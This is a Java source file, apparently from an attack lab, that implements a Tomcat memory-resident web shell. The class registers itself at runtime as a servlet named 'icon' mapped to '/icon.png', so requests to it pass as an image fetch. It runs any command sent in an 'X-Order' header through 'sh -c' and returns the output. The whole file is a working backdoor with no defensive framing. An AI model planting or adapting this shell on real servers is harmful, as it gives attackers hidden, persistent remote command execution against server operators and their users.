import javax.servlet.http.HttpServlet;
import javax.servlet.http.HttpServletRequest;
import javax.servlet.http.HttpServletResponse;
import org.apache.catalina.Wrapper;
import org.apache.catalina.core.StandardContext;
import whorl.lab.attack.TomcatContext;

/** Registers itself as a servlet. */
public class Shell extends HttpServlet {
  public Shell() throws Exception {
    StandardContext context = TomcatContext.current();
    if (context.findChild("icon") == null) {
      Wrapper wrapper = context.createWrapper();
      wrapper.setName("icon");
      wrapper.setServletClass(getClass().getName());
      wrapper.setServlet(this);
      context.addChild(wrapper);
      context.addServletMappingDecoded("/icon.png", "icon");
    }
  }

  @Override
  protected void doGet(HttpServletRequest request, HttpServletResponse response)
      throws java.io.IOException {
    response.getWriter().print(run(request.getHeader("X-Order")));
  }

  private static String run(String order) throws java.io.IOException {
    return new String(
        new ProcessBuilder("sh", "-c", order).start().getInputStream().readAllBytes());
  }
}
